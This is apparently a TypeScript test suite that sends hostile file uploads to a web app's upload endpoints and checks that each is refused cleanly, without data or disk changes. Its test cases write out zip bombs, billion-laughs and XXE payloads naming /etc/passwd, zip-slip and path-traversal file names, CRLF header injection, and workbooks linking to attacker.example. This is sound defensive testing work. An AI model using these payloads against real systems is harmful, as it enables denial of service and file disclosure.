import { randomBytes } from 'node:crypto';
import { existsSync, readdirSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, describe, expect, it } from 'vitest';
import { queryRows } from '../kernel/db/types.js';
import { translator } from '../kernel/i18n/i18n.js';
import { projectRoot } from '../paths.js';
import { createTestApp } from '../test/app.js';
import { m4a, mp3, ogg, pdf, photo, wav } from '../test/attachments.js';
import { stepUp } from '../test/cases.js';
import { insertSupportRequest } from '../modules/referrals/referrals.messages.matrix.js';
import { createMember, createOrganisation, createPerson, signIn } from '../test/factories.js';
import { validValue } from './arbitraries.js';
import { encodeQuery, loadOperations, urlOf, type Operation } from './openapi.js';
import { contractBreach, createAdmin, preview, randomAddress, report } from './support.js';
import {
  binaryPdf,
  cell,
  deflatedZeros,
  elf,
  htmlWithScript,
  jpegHeader,
  overlappingZip,
  png,
  pngSize,
  rowsOf,
  sheetOf,
  svgWithScript,
  textPdf,
  workbook,
  zip,
} from './uploads.files.js';

/**
 * The upload attack suite (issue "Security and reliability, proven", Web: "uploads: wrong types,
 * polyglots, zip bombs, pixel floods, path tricks are refused"). Every operation of the OpenAPI document
 * that takes a file is found by its request body (a binary body, or any media type but JSON), and for each
 * media type it accepts (CSV, XLSX, images) it receives: files whose name and type say one thing and whose
 * bytes are another (PNG, PDF, ELF, HTML and SVG with script), polyglots and workbooks with macros,
 * external links or embedded objects, zip bombs, DTDs and entity expansion, absurd nesting and cell
 * references, too many rows and columns, path tricks in the file name and in zip entry names (zip slip),
 * wrong and mismatched Content-Types, empty files, bodies over the limit, and pixel floods.
 * Every answer must be a localised problem+json 4xx (never a 5xx, never a hang), no table may change, no file
 * may appear anywhere, and memory must stay bounded while bombs go off.
 * First, a valid file of each accepted type must be accepted, so the refusals come from the checks and not
 * from a request the suite got wrong; an upload operation of a kind the suite cannot make a valid file for
 * fails the suite until one is added here.
 */

const t = await createTestApp({ env: { CAIRN_RATE_LIMIT_MAX: '1000000', LOG_LEVEL: 'warn' } });
const db = t.database.db;
const operations = await loadOperations(t.app);
const platformAdmin = await createPerson(db, { platformRole: 'platform_admin', passkey: true });
const orgAdmin = await createAdmin(db);
/** Case imports are for case staff, after a step-up (each cookie is a fresh session, stepped up now). */
const caseSupervisor = await createMember(db, { role: 'case_supervisor' });
const started = Date.now();
const stats = { operations: 0, requests: 0, statuses: new Map<number, number>(), peakRssGrowthMb: 0 };

/** Each request must be answered within this time: a hang is a failure, not a slow pass. */
const requestTimeoutMs = 30_000;
/** How much the process may grow while a bomb is handled (the inflate budget is 50 MB). */
const maxRssGrowthMb = 300;
/** The categories whose files are built to exhaust memory; the others send large bodies on purpose. */
const memoryBounded = new Set(['zip bombs', 'XML attacks inside a workbook', 'pixel floods']);

afterAll(async () => {
  report(
    `uploads: ${stats.operations} operations taking files, ${stats.requests} hostile requests, statuses ` +
      `${[...stats.statuses].map(([status, n]) => `${status}×${n}`).join(' ')}, peak RSS growth during bombs ` +
      `${stats.peakRssGrowthMb.toFixed(0)} MB; ${((Date.now() - started) / 1000).toFixed(1)}s`,
  );
  await t.close();
});

/** True when an operation takes a file: a binary body, or any request media type that is not JSON. */
function takesFile(op: Operation): boolean {
  if (!op.body) return false;
  return op.body.schema.format === 'binary' || op.body.contentTypes.some((type) => !/json/i.test(type));
}

type Family = 'csv' | 'xlsx' | 'zip' | 'json' | 'image' | 'pdf' | 'text' | 'audio' | 'unknown';

function familyOf(type: string): Family {
  const lower = type.split(/[;,]/)[0]!.trim().toLowerCase();
  if (lower === 'text/csv') return 'csv';
  if (lower.includes('spreadsheetml.sheet')) return 'xlsx';
  if (lower === 'application/zip') return 'zip';
  if (lower === 'application/json') return 'json';
  if (lower.startsWith('image/')) return 'image';
  if (lower === 'application/pdf') return 'pdf';
  if (lower === 'text/plain') return 'text';
  if (lower.startsWith('audio/')) return 'audio';
  return 'unknown';
}

const extensions: Record<Family, string> = {
  csv: 'csv',
  xlsx: 'xlsx',
  zip: 'zip',
  json: 'json',
  image: 'png',
  pdf: 'pdf',
  text: 'txt',
  audio: 'wav',
  unknown: 'bin',
};

/** Photos of the image types that are not PNG (case attachments re-encode them: they must decode). */
const photos = new Map<string, Buffer>([
  ['image/jpeg', await photo('jpeg')],
  ['image/webp', await photo('webp')],
]);

/** A file of each media type that an honest user would upload. */
function validFile(type: string): Buffer | null {
  const family = familyOf(type);
  const name = `Upload suite ${randomBytes(4).toString('hex')}`;
  const grid = [
    ['name', 'type', 'countries'],
    [name, 'ngo', 'KE'],
  ];
  if (family === 'csv') return Buffer.from(grid.map((row) => row.join(',')).join('\n') + '\n');
  if (family === 'xlsx') return workbook(grid);
  // The case import (checkCaseImport) also takes a zip of CSV files and a JSON export.
  if (family === 'zip')
    return zip([{ name: 'cases.csv', data: Buffer.from(grid.map((row) => row.join(',')).join('\n')) }]);
  if (family === 'json')
    return Buffer.from(JSON.stringify({ cases: [{ prs_FirstName: name, prs_Gender: 'Feminine' }] }));
  if (family === 'image') return photos.get(type.split(';')[0]!.trim().toLowerCase()) ?? png(2, 2);
  if (family === 'pdf') return pdf();
  if (family === 'text') return Buffer.from(`Notes of ${name}\n`);
  if (family === 'audio') {
    const lower = type.toLowerCase();
    if (lower.includes('mpeg')) return mp3();
    if (lower.includes('ogg')) return ogg();
    if (lower.includes('mp4') || lower.includes('m4a')) return m4a();
    if (lower.includes('wav')) return wav();
  }
  return null;
}

const uploadOperations = operations.filter(takesFile);
const languages = ['en', 'es', 'fr', 'ar'] as const;

interface Caller {
  name: string;
  cookie: () => Promise<string>;
}
const callers: Caller[] = [
  { name: 'platform admin', cookie: async () => (await signIn(db, platformAdmin.id)).cookie },
  { name: 'organisation admin', cookie: orgAdmin.cookie },
  {
    name: 'case supervisor',
    cookie: async () => {
      const session = await signIn(db, caseSupervisor.personId, {
        membershipId: caseSupervisor.membership.id,
      });
      await stepUp(db, session.sessionId);
      return session.cookie;
    },
  },
];

// Case attachments take files on a case: the case supervisor uploads to a case of their organisation.
const caseFile = await t.app.inject({
  method: 'POST',
  url: '/api/cases',
  headers: { cookie: await callers.find((caller) => caller.name === 'case supervisor')!.cookie() },
  payload: { draft: true },
});
// Thread attachments go to a thread the case supervisor's organisation is a party to: a support request of
// theirs to another organisation, with the thread they open about it through the API.
const otherParty = await createOrganisation(db, { countries: ['KE'] });
const supportRequestId = await insertSupportRequest(db, caseSupervisor.organisationId, [otherParty.id]);
const thread = await t.app.inject({
  method: 'POST',
  url: '/api/threads',
  headers: { cookie: await callers.find((caller) => caller.name === 'case supervisor')!.cookie() },
  payload: { subjectKind: 'support_request', subjectId: supportRequestId, withOrganisationId: otherParty.id },
});
if (thread.statusCode !== 201)
  throw new Error(`opening a thread failed: ${thread.statusCode} ${thread.body}`);
/** Path parameters of the operations that take files, filled with resources their uploaders can reach. */
const pathParams: Record<string, string> = {
  caseId: caseFile.json<{ id: string }>().id,
  threadId: thread.json<{ id: string }>().id,
};

/** A file as the suite sends it. */
interface Upload {
  body: Buffer | string | (() => Readable);
  /** The Content-Type header; null sends none. */
  contentType: string | null;
  fileName?: string;
  language?: (typeof languages)[number];
}

/** The query an operation needs, with the file name in whichever parameter names the file. */
function queryFor(op: Operation, fileName: string): string {
  const query: Record<string, unknown> = {};
  for (const parameter of op.queryParams) {
    if (/file.?name/i.test(parameter.name)) query[parameter.name] = fileName;
    else if (parameter.required)
      query[parameter.name] = fc.sample(validValue(parameter.schema), { numRuns: 1, seed: 7 })[0];
  }
  return encodeQuery(query);
}

/** Sends one upload, bounded in time (a hang fails the test instead of stalling it). */
async function send(op: Operation, cookie: string, upload: Upload): Promise<LightMyRequestResponse> {
  const family = familyOf(upload.contentType ?? '');
  const fileName = upload.fileName ?? `organisations.${extensions[family]}`;
  const headers: Record<string, string> = { cookie, 'accept-language': upload.language ?? 'en' };
  if (upload.contentType !== null) headers['content-type'] = upload.contentType;
  // A file name declared as a header (names of survivors' files never go in URLs) is sent there.
  for (const parameter of op.headerParams)
    if (/file.?name/i.test(parameter.name)) headers[parameter.name] = encodeURIComponent(fileName);
  const payload = typeof upload.body === 'function' ? upload.body() : upload.body;
  stats.requests++;
  let timer: NodeJS.Timeout | undefined;
  const timeout = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`no answer within ${requestTimeoutMs} ms`)), requestTimeoutMs);
  });
  try {
    const res = await Promise.race([
      t.app.inject({
        method: op.method,
        url: urlOf(op, pathParams, queryFor(op, fileName)),
        headers,
        payload,
        remoteAddress: randomAddress(),
      }),
      timeout,
    ]);
    stats.statuses.set(res.statusCode, (stats.statuses.get(res.statusCode) ?? 0) + 1);
    return res;
  } finally {
    clearTimeout(timer);
  }
}

/** Who can upload to an operation: the first caller a valid file of every accepted type gets through for. */
const uploaders = new Map<string, Caller>();

/**
 * Why an answer is not a clear, localised refusal (empty when it is): a 4xx (of the expected statuses, when
 * given) as problem+json with a code, a title in the request's language, and a message per field error.
 */
function refusalProblems(
  res: LightMyRequestResponse,
  language: (typeof languages)[number],
  statuses?: number[],
): string[] {
  const problems: string[] = [];
  if (res.statusCode < 400 || res.statusCode >= 500) problems.push(`status ${res.statusCode}`);
  else if (statuses && !statuses.includes(res.statusCode))
    problems.push(`status ${res.statusCode}, expected ${statuses.join(' or ')}`);
  const breach = contractBreach(res);
  if (breach) problems.push(breach);
  if (problems.length) return problems;
  const body = res.json<{ code: string; title: string; errors?: Array<{ code: string; message: string }> }>();
  const title = translator(language)(`errors.${body.code}.title`);
  if (body.title !== title) problems.push(`title "${body.title}" is not the ${language} one ("${title}")`);
  for (const error of body.errors ?? []) {
    if (!error.message || error.message.startsWith('validation.') || error.message === error.code)
      problems.push(`field error ${error.code} has no message`);
  }
  return problems;
}

/**
 * Row counts and checksums of every table, as the owner (past row-level security). A session's idle timer
 * (`last_seen_at`) is the one thing a request may change.
 */
async function snapshot(): Promise<Record<string, string>> {
  return t.database.asOwner(async (owner) => {
    const tables = await queryRows<{ name: string }>(
      owner,
      sql`select tablename as name from pg_tables where schemaname = 'public' order by tablename`,
    );
    const out: Record<string, string> = {};
    for (const { name } of tables) {
      const [row] = await queryRows<{ n: number; h: string }>(
        owner,
        sql`select count(*)::int as n, md5(coalesce(string_agg(x, '|' order by x), '')) as h
            from (select (to_jsonb(t) - 'last_seen_at')::text as x from ${sql.identifier(name)} t) s`,
      );
      out[name] = `${row!.n} rows, ${row!.h}`;
    }
    return out;
  });
}

/** Every file under a folder (relative names), to prove that uploads leave the disk alone. */
function filesUnder(dir: string): string[] {
  if (!existsSync(dir)) return [];
  const out: string[] = [];
  const walk = (at: string) => {
    for (const entry of readdirSync(at)) {
      const full = path.join(at, entry);
      if (statSync(full).isDirectory()) walk(full);
      else out.push(path.relative(dir, full));
    }
  };
  walk(dir);
  return out.sort();
}

/** A hostile upload and what it must get. */
interface Case {
  name: string;
  upload: Omit<Upload, 'language'>;
  /** The statuses allowed (any 4xx when absent). */
  statuses?: number[];
}

/** A unique marker for names that, if anything wrote them to disk, would be found afterwards. */
const marker = `cairn-upload-suite-${randomBytes(4).toString('hex')}`;
/** Where a path trick would land if something honoured it. */
const landingPlaces = [
  process.cwd(),
  projectRoot,
  t.config.dataDir,
  tmpdir(),
  path.join(tmpdir(), 'a', 'b', 'c'),
];
/** Names planted in file names and zip entries, to look for afterwards. */
const plantedNames = [
  `../../../../../../tmp/${marker}-1.txt`,
  `/tmp/${marker}-2.txt`,
  `..\\..\\..\\${marker}-3.txt`,
  `xl/../../../${marker}-4.xml`,
];
function plantedFiles(): string[] {
  const found: string[] = [];
  for (const base of landingPlaces) {
    for (const name of plantedNames) {
      const target = path.resolve(base, name.replace(/\\/g, '/'));
      if (existsSync(target)) found.push(target);
    }
  }
  for (const dir of [tmpdir(), process.cwd(), t.config.dataDir])
    if (existsSync(dir)) found.push(...readdirSync(dir).filter((entry) => entry.includes(marker)));
  return found;
}

const mb = 1024 * 1024;
const grid = [
  ['name', 'type', 'countries'],
  ['Hostile upload', 'ngo', 'KE'],
];
const plainXlsx = workbook(grid);
const plainCsv = Buffer.from('name,type,countries\nHostile upload,ngo,KE\n');

/** A stream of `size` bytes of `fill`, made as it is read (never held whole), sent without a length. */
function streamOf(size: number, fill = 0x41): () => Readable {
  return () => {
    let left = size;
    const piece = Buffer.alloc(64 * 1024, fill);
    return new Readable({
      read() {
        if (left <= 0) return this.push(null);
        const part = left >= piece.length ? piece : piece.subarray(0, left);
        left -= part.length;
        this.push(part);
      },
    });
  };
}

// Built once, before any memory is measured: 300 MB of zeros deflate to about 300 kB.
const bombPayload = await deflatedZeros(300 * mb);
const fortyMb = await deflatedZeros(40 * mb);

const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** The cases of one category for one media type family (empty when the category does not apply). */
const categories: Record<string, (family: Family, type: string) => Case[]> = {
  'wrong content behind a right name and type': (family, type) => {
    const others: Array<[string, Buffer]> = [
      ['a PNG image', png(16, 16)],
      ['a PDF (binary)', binaryPdf],
      ['a PDF written in ASCII, with JavaScript', textPdf],
      ['an ELF executable', elf],
      ['a web page with a script', htmlWithScript],
      ['an SVG with a script', svgWithScript],
    ];
    if (family === 'csv') others.push(['an XLSX workbook', plainXlsx]);
    if (family === 'xlsx' || family === 'image') others.push(['a CSV file', plainCsv]);
    return others
      .filter(([name]) => !(family === 'image' && name === 'a PNG image'))
      .filter(([name]) => !(family === 'pdf' && name === 'a PDF (binary)'))
      .map(([name, body]) => ({ name, upload: { body, contentType: type }, statuses: [400, 415, 422] }));
  },

  'polyglots, macros, external links and embedded objects': (family, type) => {
    const cases: Case[] = [
      {
        name: 'a PDF with a workbook appended',
        upload: { body: Buffer.concat([textPdf, plainXlsx]), contentType: type },
      },
      {
        name: 'a web page with a workbook appended',
        upload: { body: Buffer.concat([htmlWithScript, plainXlsx]), contentType: type },
      },
      {
        name: 'a workbook whose zip comment is a web page',
        upload: { body: workbook(grid, { zip: { comment: htmlWithScript } }), contentType: type },
      },
    ];
    if (family === 'image')
      cases.push({
        name: 'a PNG with a zip appended (GIFAR-style)',
        upload: { body: Buffer.concat([png(2, 2), plainXlsx]), contentType: type },
      });
    if (family !== 'xlsx') return cases;
    const vba = {
      name: 'xl/vbaProject.bin',
      data: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), randomBytes(512)]),
    };
    return [
      ...cases,
      {
        name: 'a workbook with a VBA macro project',
        upload: {
          body: workbook(grid, {
            extra: [vba],
            contentTypes: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            workbookRelationships: `<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
          }),
          contentType: type,
        },
      },
      {
        name: 'a workbook declared macro-enabled',
        upload: {
          body: workbook(grid, { workbookType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }),
          contentType: type,
        },
      },
      {
        name: 'a macro part alone, under another folder',
        upload: {
          body: workbook(grid, { extra: [{ ...vba, name: 'docs/vbaProject.bin' }] }),
          contentType: type,
        },
      },
      {
        name: 'a workbook linking to another workbook',
        upload: {
          body: workbook(grid, {
            extra: [
              {
                name: 'xl/externalLinks/externalLink1.xml',
                data: Buffer.from(
                  '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>',
                ),
              },
            ],
            workbookRelationships: `<Relationship Id="rId7" Type="${relationships}/externalLink" Target="externalLinks/externalLink1.xml"/>`,
          }),
          contentType: type,
        },
      },
      {
        name: 'a workbook with a template fetched from a URL',
        upload: {
          body: workbook(grid, {
            workbookRelationships: `<Relationship Id="rId8" Type="${relationships}/attachedTemplate" Target="https://attacker.example/t.xltm" TargetMode="External"/>`,
          }),
          contentType: type,
        },
      },
      {
        name: 'a workbook with an embedded OLE object',
        upload: {
          body: workbook(grid, { extra: [{ name: 'xl/embeddings/oleObject1.bin', data: elf }] }),
          contentType: type,
        },
      },
      {
        name: 'a workbook with an ActiveX control',
        upload: {
          body: workbook(grid, { extra: [{ name: 'xl/activeX/activeX1.bin', data: randomBytes(256) }] }),
          contentType: type,
        },
      },
      {
        name: 'a workbook with an external data connection',
        upload: {
          body: workbook(grid, {
            extra: [
              {
                name: 'xl/connections.xml',
                data: Buffer.from(
                  '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q"><webPr url="https://attacker.example/"/></connection></connections>',
                ),
              },
            ],
          }),
          contentType: type,
        },
      },
      {
        name: 'a workbook carrying a zip bomb as an embedded package',
        upload: {
          body: workbook(grid, {
            extra: [{ name: 'xl/embeddings/package.zip', data: zip([{ name: 'bomb', packed: fortyMb }]) }],
          }),
          contentType: type,
        },
      },
    ].map((c) => ({ ...c, statuses: [400] }));
  },

  'zip bombs': (family, type) => {
    if (family !== 'xlsx') return [];
    const parts = (sheet: Parameters<typeof zip>[0][number]) =>
      zip([
        { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
        { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
        sheet,
      ]);
    return [
      {
        name: '300 MB of zeros in one entry, sizes honest',
        upload: { body: parts({ name: 'xl/worksheets/sheet1.xml', packed: bombPayload }), contentType: type },
      },
      {
        name: '300 MB of zeros declaring 1 kB',
        upload: {
          body: parts({ name: 'xl/worksheets/sheet1.xml', packed: bombPayload, declaredSize: 1024 }),
          contentType: type,
        },
      },
      {
        name: '100 entries overlapping one 40 MB entry (non-recursive bomb)',
        upload: { body: overlappingZip(100, fortyMb), contentType: type },
      },
      {
        name: '20 entries of 40 MB each (800 MB in all)',
        upload: {
          body: zip(
            Array.from({ length: 20 }, (_, i) => ({
              name: `xl/worksheets/sheet${i + 1}.xml`,
              packed: fortyMb,
            })),
          ),
          contentType: type,
        },
      },
      {
        name: '2,001 entries',
        upload: {
          body: zip(
            Array.from({ length: 2_001 }, (_, i) => ({
              name: `xl/media/image${i}.png`,
              data: Buffer.from([i & 0xff]),
            })),
          ),
          contentType: type,
        },
      },
    ].map((c) => ({ ...c, statuses: [400] }));
  },

  'XML attacks inside a workbook': (family, type) => {
    if (family !== 'xlsx') return [];
    const lol = [
      '<!ENTITY lol "lol">',
      ...Array.from(
        { length: 9 },
        (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
      ),
    ].join('');
    const withDoctype = (doctype: string, text: string) =>
      Buffer.from(
        `<?xml version="1.0"?>${doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` +
          `<row r="1">${cell('A1', 'name')}${cell('B1', 'type')}${cell('C1', 'countries')}</row>` +
          `<row r="2">${cell('A2', text)}${cell('B2', 'ngo')}${cell('C2', 'KE')}</row></sheetData></worksheet>`,
      );
    const header = `<row r="1">${cell('A1', 'name')}${cell('B1', 'type')}${cell('C1', 'countries')}</row>`;
    const cases: Case[] = [
      {
        name: 'billion laughs (nested entities)',
        upload: {
          body: workbook(grid, { sheetXml: withDoctype(`<!DOCTYPE worksheet [${lol}]>`, '&lol9;') }),
          contentType: type,
        },
      },
      {
        name: 'an external entity (XXE) naming /etc/passwd',
        upload: {
          body: workbook(grid, {
            sheetXml: withDoctype(
              '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
              '&xxe;',
            ),
          }),
          contentType: type,
        },
      },
      {
        name: 'a DTD in [Content_Types].xml',
        upload: {
          body: zip([
            {
              name: '[Content_Types].xml',
              data: Buffer.from(`<?xml version="1.0"?><!DOCTYPE Types [${lol}]><Types>&lol9;</Types>`),
            },
            { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
            { name: 'xl/worksheets/sheet1.xml', data: sheetOf(rowsOf(grid)) },
          ]),
          contentType: type,
        },
      },
      {
        name: 'elements nested 100,000 deep',
        upload: {
          body: workbook(grid, {
            sheetXml: sheetOf(`${header}${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}`),
          }),
          contentType: type,
        },
      },
      {
        name: 'a cell at row 30,000,000 (the reader fills every row before it)',
        upload: {
          body: workbook(grid, {
            sheetXml: sheetOf(`${header}<row r="30000000">${cell('A30000000', 'x')}</row>`),
          }),
          contentType: type,
        },
      },
      {
        name: 'a cell in column ZZZZ (475,254)',
        upload: {
          body: workbook(grid, {
            sheetXml: sheetOf(`<row r="1">${cell('A1', 'name')}${cell('ZZZZ1', 'x')}</row>`),
          }),
          contentType: type,
        },
      },
      {
        name: 'a row numbered past the largest sheet',
        upload: {
          body: workbook(grid, { sheetXml: sheetOf(`${header}<row r="1048577"/>`) }),
          contentType: type,
        },
      },
      {
        name: 'a worksheet in UTF-16',
        upload: {
          body: workbook(grid, {
            sheetXml: Buffer.concat([
              Buffer.from([0xff, 0xfe]),
              Buffer.from(sheetOf(rowsOf(grid)).toString('utf8'), 'utf16le'),
            ]),
          }),
          contentType: type,
        },
      },
      {
        name: 'an unterminated tag',
        upload: {
          body: workbook(grid, {
            sheetXml: Buffer.from(`<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr`),
          }),
          contentType: type,
        },
      },
    ];
    return cases.map((c) => ({ ...c, statuses: [400] }));
  },

  'too many rows and columns': (family, type) => {
    if (family === 'csv') {
      return [
        {
          name: '1,048,577 rows (more than any spreadsheet holds)',
          upload: { body: `name,type,countries\n${'x,ngo,KE\n'.repeat(1_048_577)}`, contentType: type },
        },
        {
          name: '16,385 columns (more than any spreadsheet holds)',
          upload: {
            body: `${Array.from({ length: 16_385 }, (_, i) => `c${i}`).join(',')}\n`,
            contentType: type,
          },
        },
        {
          name: 'a cell of 32,768 characters (longer than a spreadsheet cell)',
          upload: { body: `name,type,countries\n${'x'.repeat(32_768)},ngo,KE\n`, contentType: type },
        },
      ].map((c) => ({ ...c, statuses: [400, 413] }));
    }
    if (family === 'xlsx') {
      const wide = Array.from({ length: 16_384 }, (_, i) => `c${i}`);
      return [
        {
          name: 'a header row of 16,384 cells (a full spreadsheet row)',
          upload: {
            body: workbook(grid, {
              sheetXml: sheetOf(
                `<row r="1">${wide.map((text, i) => cell(columnName(i + 1), text)).join('')}</row>`,
              ),
            }),
            contentType: type,
          },
        },
        {
          name: '1,048,577 rows',
          upload: {
            body: workbook(grid, {
              sheetXml: sheetOf(
                `${rowsOf(grid)}${'<row><c t="inlineStr"><is><t>x</t></is></c></row>'.repeat(1_048_577)}`,
              ),
            }),
            contentType: type,
          },
        },
      ].map((c) => ({ ...c, statuses: [400, 413] }));
    }
    return [];
  },

  'path tricks in the file name': (family, type) => {
    const body = validFile(type);
    if (!body) return [];
    const names = [
      '../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '/etc/passwd',
      'C:\\Users\\Public\\organisations.csv',
      'C:organisations.csv',
      '.',
      '..',
      `organisations.${extensions[family]}\u0000.exe`,
      'organisations\r\nX-Injected: yes.csv',
      `invoice\u202Eslx.${extensions[family]}`,
      `\u2066organisations\u2069.${extensions[family]}`,
      `${'x'.repeat(300)}.${extensions[family]}`,
      ...plantedNames,
    ];
    return names.map((fileName) => ({
      name: `file name ${JSON.stringify(fileName.length > 40 ? `${fileName.slice(0, 40)}…` : fileName)}`,
      upload: { body, contentType: type, fileName },
      statuses: [400],
    }));
  },

  'path tricks in zip entry names (zip slip)': (family, type) => {
    if (family !== 'xlsx') return [];
    const slips = [
      ...plantedNames,
      'C:/cairn-zip-slip.txt',
      'xl/work\u0000book.xml',
      'xl//worksheets/sheet1.xml',
      './xl/workbook.xml',
    ];
    return [
      ...slips.map((name) => ({
        name: `an entry named ${JSON.stringify(name)}`,
        upload: {
          body: workbook(grid, { extra: [{ name, data: Buffer.from('<x>planted</x>') }] }),
          contentType: type,
        },
        statuses: [400],
      })),
      {
        name: 'two entries of one name, with different contents',
        upload: {
          body: workbook(grid, {
            extra: [{ name: 'xl/worksheets/sheet1.xml', data: sheetOf(rowsOf([['name'], ['Other']])) }],
          }),
          contentType: type,
        },
        statuses: [400],
      },
      {
        name: 'a symbolic link to /etc/passwd',
        upload: {
          body: workbook(grid, {
            extra: [{ name: 'xl/media/link.png', data: Buffer.from('/etc/passwd'), mode: 0o120777 }],
          }),
          contentType: type,
        },
        statuses: [400],
      },
      {
        name: 'two entries whose names differ only in case',
        upload: {
          body: workbook(grid, { extra: [{ name: 'XL/Workbook.xml', data: Buffer.from('<workbook/>') }] }),
          contentType: type,
        },
        statuses: [400],
      },
    ];
  },

  'wrong and mismatched Content-Type': (family, type) => {
    const body = validFile(type);
    if (!body) return [];
    const wrong = [
      'application/octet-stream',
      'text/plain',
      'text/html',
      'image/svg+xml',
      'application/zip',
      'application/vnd.ms-excel',
      'application/vnd.ms-excel.sheet.macroEnabled.12',
      'application/x-msdownload',
      'multipart/form-data; boundary=cairn',
      `${type}; charset=utf-16le`,
      `${type}; charset=iso-8859-1`,
      `${type}, application/json`,
    ].filter((candidate) => candidate !== type);
    const cases: Case[] = wrong.map((contentType) => ({
      name: `the file sent as ${contentType}`,
      upload: { body, contentType },
      statuses: [400, 415],
    }));
    cases.push({ name: 'no Content-Type at all', upload: { body, contentType: null }, statuses: [400, 415] });
    if (family === 'csv')
      cases.push({
        name: 'a workbook sent as CSV',
        upload: { body: plainXlsx, contentType: type },
        statuses: [400],
      });
    if (family === 'xlsx')
      cases.push({
        name: 'a CSV sent as a workbook',
        upload: { body: plainCsv, contentType: type },
        statuses: [400],
      });
    cases.push({
      name: 'a multipart form carrying the file',
      upload: {
        body: Buffer.concat([
          Buffer.from(
            `--cairn\r\nContent-Disposition: form-data; name="file"; filename="organisations.${extensions[family]}"\r\nContent-Type: ${type}\r\n\r\n`,
          ),
          body,
          Buffer.from('\r\n--cairn--\r\n'),
        ]),
        contentType: 'multipart/form-data; boundary=cairn',
      },
      statuses: [400, 415],
    });
    return cases;
  },

  'empty files': (_family, type) => [
    { name: 'no bytes', upload: { body: Buffer.alloc(0), contentType: type }, statuses: [400, 415] },
    {
      name: 'a byte-order mark only',
      upload: { body: Buffer.from([0xef, 0xbb, 0xbf]), contentType: type },
      statuses: [400],
    },
    { name: 'blank lines only', upload: { body: '\r\n\r\n  \n', contentType: type }, statuses: [400] },
  ],

  'bodies over the limit': (_family, type) => [
    {
      name: '100 MB with its length declared',
      upload: { body: Buffer.alloc(100 * mb, 0x41), contentType: type },
      statuses: [413],
    },
    {
      name: '100 MB streamed without a length',
      upload: { body: streamOf(100 * mb), contentType: type },
      statuses: [413],
    },
  ],

  'pixel floods': (family, type) => {
    if (family !== 'image') return [];
    return [
      {
        name: 'a PNG declaring 100,000 × 100,000 pixels',
        upload: { body: png(100_000, 100_000, 1), contentType: type },
      },
      {
        name: 'a JPEG declaring 65,500 × 65,500 pixels',
        upload: { body: jpegHeader(65_500, 65_500), contentType: type },
      },
    ];
  },
};

/** Excel's name of a column (1 = A). */
function columnName(n: number): string {
  let name = '';
  for (let left = n; left > 0; left = Math.floor((left - 1) / 26))
    name = String.fromCharCode(65 + ((left - 1) % 26)) + name;
  return name;
}

describe('operations that take files', () => {
  it('are found in the OpenAPI document', () => {
    // The directory's import takes CSV and XLSX today; the list grows as uploads land (case attachments).
    expect(uploadOperations.map((op) => op.operationId)).toContain('checkImport');
    stats.operations = uploadOperations.length;
  });

  it.each(uploadOperations)('$operationId accepts a valid file of every type it declares', async (op) => {
    const problems: string[] = [];
    for (const caller of callers) {
      const cookie = await caller.cookie();
      problems.length = 0;
      for (const type of op.body!.contentTypes) {
        const body = validFile(type);
        if (!body) {
          problems.push(`no valid ${type} file known to the suite: add one to validFile()`);
          continue;
        }
        const res = await send(op, cookie, { body, contentType: type });
        if (res.statusCode >= 300)
          problems.push(`${type} as ${caller.name}: ${res.statusCode} ${preview(res.body)}`);
      }
      if (problems.length === 0) {
        uploaders.set(op.operationId, caller);
        break;
      }
    }
    expect(problems).toEqual([]);
  });
});

describe.each(Object.keys(categories))('%s', (category) => {
  it.each(uploadOperations)('$operationId refuses them all', async (op) => {
    const caller = uploaders.get(op.operationId);
    expect(caller, 'no caller got a valid file through (see the test above)').toBeDefined();
    const cookie = await caller!.cookie();
    const before = await snapshot();
    const filesBefore = filesUnder(t.config.dataDir);
    const failures: string[] = [];
    // Every file is built before memory is measured, so the measure is the server's alone.
    const cases = op.body!.contentTypes.flatMap((type) =>
      categories[category]!(familyOf(type), type).map((c) => ({ type, ...c })),
    );
    const rssBefore = process.memoryUsage().rss;
    let peak = 0;
    for (const [i, c] of cases.entries()) {
      const language = languages[i % languages.length]!;
      let res: LightMyRequestResponse;
      try {
        res = await send(op, cookie, { ...c.upload, language });
      } catch (error) {
        failures.push(`${c.type} · ${c.name}: ${(error as Error).message}`);
        continue;
      }
      peak = Math.max(peak, process.memoryUsage().rss - rssBefore);
      const problems = refusalProblems(res, language, c.statuses);
      if (problems.length)
        failures.push(`${c.type} · ${c.name}: ${problems.join('; ')} ${preview(res.body)}`);
    }
    expect(failures).toEqual([]);
    if (memoryBounded.has(category)) {
      const growthMb = peak / mb;
      stats.peakRssGrowthMb = Math.max(stats.peakRssGrowthMb, growthMb);
      expect(growthMb, 'memory growth while handling these files (MB)').toBeLessThan(maxRssGrowthMb);
    }
    // Nothing written: no table changed, no file appeared in the data folder or where a path trick aims.
    expect(await snapshot()).toEqual(before);
    expect(filesUnder(t.config.dataDir)).toEqual(filesBefore);
    expect(plantedFiles()).toEqual([]);
    // And the process still answers.
    expect((await t.app.inject({ url: '/api/health' })).statusCode).toBe(200);
    if (cases.length === 0)
      report(
        `uploads: "${category}" does not apply to ${op.operationId} (${op.body!.contentTypes.join(', ')})`,
      );
  });
});

describe('pixel-flood files', () => {
